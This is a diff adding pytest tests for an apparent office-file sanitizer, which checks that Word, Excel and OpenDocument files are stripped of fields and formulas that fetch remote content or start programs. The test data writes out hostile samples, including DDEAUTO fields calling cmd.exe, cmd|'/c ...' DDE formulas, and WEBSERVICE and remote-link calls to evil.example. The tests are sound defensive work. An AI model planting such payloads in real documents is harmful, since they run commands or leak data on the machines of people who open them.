@@ -158,6 +158,147 @@ def test_a_link_to_elsewhere_is_found_however_it_is_written(media: Path, mode: s
     assert len(paper.notes) == 1
 
 
+HARMFUL_FIELDS = [
+    ("{", " DDEAUTO C:\\\\cmd.exe", "|", "shown", "}"),
+    ("{", " DDE", "AUTO C:\\\\CMD.EXE", "|", "shown", "}"),
+    ("{", "{", " QUOTE 68 68 69", "|", "dde", "}", " C:\\\\cmd", "|", "shown", "}"),
+    ("{", " IF 1=1", "{", " INCLUDEPICTURE http://evil.example/", "|", "}", "|", "shown", "}"),
+    ("{", "{", " QUOTE all of it", "|", "dde auto", "}", "|", "shown", "}"),
+    (" DDEAUTO without a beginning", "shown"),
+]
+HARMLESS_FIELDS = [
+    ("{", " PAGE", "|", "1", "}"),
+    ("{", " HYPERLINK http://city.example/", "|", "shown", "}"),
+    ("{", " TOC", "|", "{", " PAGEREF", "|", "1", "}", "}"),
+]
+
+
+@pytest.mark.parametrize("field", HARMFUL_FIELDS)
+def test_a_field_that_fetches_or_starts_something_keeps_only_what_it_showed(
+    media: Path, field: tuple[str, ...]
+) -> None:
+    paper = read("letter.docx", zoo.docx_with_field(*field))
+    with zipfile.ZipFile(BytesIO(kept_content(media, paper))) as kept:
+        words = kept.read("word/document.xml")
+    assert [harm for harm in (b"DDE", b"AUTO", b"INCLUDE", b"evil", b"cmd") if harm in words] == []
+    assert paper.text.startswith("letter\n")
+    assert paper.text.endswith("shown")
+    assert len(paper.notes) == 1
+    assert read("again.docx", kept_content(media, paper)).notes == []
+
+
+@pytest.mark.parametrize("field", HARMLESS_FIELDS)
+def test_other_fields_stay_as_they_are(media: Path, field: tuple[str, ...]) -> None:
+    beast = zoo.docx_with_field(*field)
+    paper = read("letter.docx", beast)
+    assert (paper.notes, kept_content(media, paper)) == ([], beast)
+
+
+def test_words_that_stand_twice_for_old_programs_are_read_once() -> None:
+    assert read("letter.docx", zoo.docx_with_twins()).text == "once\nin a box\n\nmoved\nmasks\t49 boxes"
+
+
+HARMFUL_SHEETS = {
+    "xl/connections.xml": (
+        '<connections><connection id="1" type="5" refreshOnLoad="1" odcFile="http://evil.example/a.odc">'
+        '<dbPr connection="Provider=SQL;Data Source=evil.example" command="SELECT"/></connection>'
+        '<connection id="2" type="4"><webPr url="http://evil.example/"/></connection>'
+        '<connection id="3" type="100"><extLst><ext><x:connection xmlns:x="x15"><x:oledbPr connection="evil.example"/>'
+        "</x:connection></ext></extLst></connection></connections>"
+    ),
+    "xl/queryTables/queryTable1.xml": '<queryTable name="q" refreshOnLoad="1" connectionId="1"/>',
+    "xl/externalLinks/externalLink1.xml": (
+        '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c evil.example"><ddeItems/></ddeLink></externalLink>'
+    ),
+    "xl/externalLinks/_rels/externalLink1.xml.rels": (
+        '<Relationships><Relationship Id="r1" Type="x/externalLinkPath" Target="http://evil.example/a.xlsx"'
+        ' TargetMode="External"/></Relationships>'
+    ),
+    "xl/worksheets/sheet1.xml": (
+        '<worksheet><sheetData><row><c><f>WEBSERVICE("http://evil.example/"&amp;A1)</f><v>49</v></c></row></sheetData>'
+        "</worksheet>"
+    ),
+    "xl/anywhere.bin": '\ufeff<worksheet><c><f>_xlfn.IMAGE("http://evil.example/")</f></c></worksheet>',
+    "xl/worksheets/sheet2.xml": "<worksheet><c><f>cmd|'/c evil.example'!A0</f></c></worksheet>",
+    "xl/worksheets/sheet3.xml": "<worksheet><c><f>'\\\\evil.example\\x\\[a.xlsx]S'!A1</f></c></worksheet>",
+}
+
+
+@pytest.mark.parametrize("part", HARMFUL_SHEETS)
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
+def test_a_table_that_would_load_something_is_made_neutral(media: Path, part: str, encoding: str) -> None:
+    beast = HARMFUL_SHEETS[part].replace("\ufeff", "" if encoding == "utf-16" else "\ufeff").encode(encoding)
+    paper = read("masks.xlsx", zoo.sheet({part: beast}))
+    assert paper.notes == ["“masks.xlsx” would have loaded something from elsewhere; that was taken out."]
+    with zipfile.ZipFile(BytesIO(kept_content(media, paper))) as kept:
+        left = kept.read(part)
+    assert [harm for harm in (b"evil.example", b"refreshOnLoad", b"cmd") if harm in left] == []
+    assert read("again.xlsx", kept_content(media, paper)).notes == []
+
+
+def test_a_table_keeps_its_numbers_and_whatever_lies_in_it(media: Path) -> None:
+    harmless = {
+        "xl/connections.xml": b'<connection><dbPr connection="Data Model Connection" command="Model"/></connection>',
+        "xl/worksheets/sheet1.xml": b"<worksheet><c><f>SUM('Sheet 1'!A1:A9)/'Sheet 2'!B1</f><v>49</v></c><c><f>\"a|b\""
+        b"&amp;A1</f></c></worksheet>",
+        "xl/worksheets/_rels/sheet1.xml.rels": b'<Relationships><Relationship Id="r1" Type="x/hyperlink"'
+        b' Target="http://city.example/" TargetMode="External"/></Relationships>',
+        "xl/media/image1.svg": b"<!DOCTYPE svg><svg/>",
+    }  # fmt: skip
+    beast = zoo.sheet(harmless)
+    paper = read("masks.xlsx", beast)
+    assert (paper.notes, kept_content(media, paper)) == ([], beast)
+    harmless["xl/worksheets/sheet2.xml"] = b"<worksheet><c><f>RTD(A1)</f><v>50</v></c></worksheet>"
+    neutral = kept_content(media, read("masks.xlsx", zoo.sheet(harmless)))
+    with zipfile.ZipFile(BytesIO(neutral)) as kept:
+        assert kept.read("xl/worksheets/sheet2.xml").endswith(b"<worksheet><c><f>NA()</f><v>50</v></c></worksheet>")
+        assert kept.read("xl/worksheets/sheet1.xml") == harmless["xl/worksheets/sheet1.xml"]
+
+
+@pytest.mark.parametrize("harm", [
+    '<table:table><table:table-source xlink:href="http://evil.example/a.ods"/></table:table>',
+    '<table:table-cell table:formula="of:=[\'file:///evil.example/a.ods\'#$S.A1]" office:value="49"/>',
+    '<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://evil.example/&quot;)" office:value="49"/>',
+    '<table:dde-link><office:dde-source office:dde-topic="evil.example"/></table:dde-link>',
+    '<draw:image xlink:href="http://evil.example/pixel.png"/>', '<draw:image xlink:href="../../evil.example"/>',
+    '<draw:object xlink:href="\\\\evil.example\\share"/>',
+    '<office:event-listeners xlink:href="vnd.sun.star.script:evil.example"/>',
+    '<table:database-range><table:database-source-sql table:database-name="evil.example"/></table:database-range>',
+])  # fmt: skip
+def test_an_open_table_that_would_load_something_is_made_neutral(media: Path, harm: str) -> None:
+    stays = '<text:a xlink:href="http://city.example/">us</text:a><draw:image xlink:href="Pictures/1.png"/>'
+    paper = read("masks.ods", zoo.ods(harm + stays))
+    assert paper.notes == ["“masks.ods” would have loaded something from elsewhere; that was taken out."]
+    with zipfile.ZipFile(BytesIO(kept_content(media, paper))) as kept:
+        left = kept.read("content.xml")
+    assert b"evil.example" not in left
+    assert stays.encode() in left
+    assert (b'office:value="49"' in left) == ("49" in harm)
+    assert read("again.ods", kept_content(media, paper)).notes == []
+
+
+def test_an_open_table_that_loads_nothing_is_kept_as_it_came(media: Path) -> None:
+    beast = zoo.ods('<table:table-cell table:formula="of:=SUM([$\'S 1\'.A1:.A9])+{1;2|3}" office:value="49"/>')
+    paper = read("masks.ods", beast)
+    assert (paper.notes, kept_content(media, paper)) == ([], beast)
+
+
+def test_a_large_table_is_looked_through_too(media: Path) -> None:
+    rows = "<row><c><f>SUM(A1)</f><v>49</v></c></row>" * 150_000
+    harm = "<row><c><f>WEBSERVICE(A1)</f></c></row>"
+    quiet = zoo.sheet({"xl/worksheets/sheet1.xml": f"<worksheet>{rows}</worksheet>".encode()})
+    assert read("masks.xlsx", quiet).notes == []
+    loud = zoo.sheet({"xl/sheet1.bin": f"<worksheet>{rows}{harm}</worksheet>".encode()})
+    assert len(read("masks.xlsx", loud).notes) == 1
+    louder = zoo.sheet({"xl/sheet1.bin": f"<worksheet>{rows * 4}{harm}</worksheet>".encode()})
+    assert "unpacks to more" in refusal("masks.xlsx", louder)
+
+
+def test_macros_of_old_tables_are_refused_however_they_are_named() -> None:
+    kinds = '<Override PartName="/xl/a.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
+    assert "macros" in refusal("a.xlsx", zoo.sheet({"[Content_Types].xml": zoo.TYPES.format(kinds).encode("utf-16")}))
+
+
 @pytest.mark.parametrize("day", [b"Fri, 31 Dec 9999 23:59:59 -1200", b"Mon, 1 Jan 1200 00:00:00 +1400", b"x" * 5000])
 def test_a_mail_from_a_day_that_never_was_has_none(media: Path, day: bytes) -> None:
     beast = zoo.mail("words").replace(b"Tue, 17 Mar 2020 09:30:00 +0900", day)
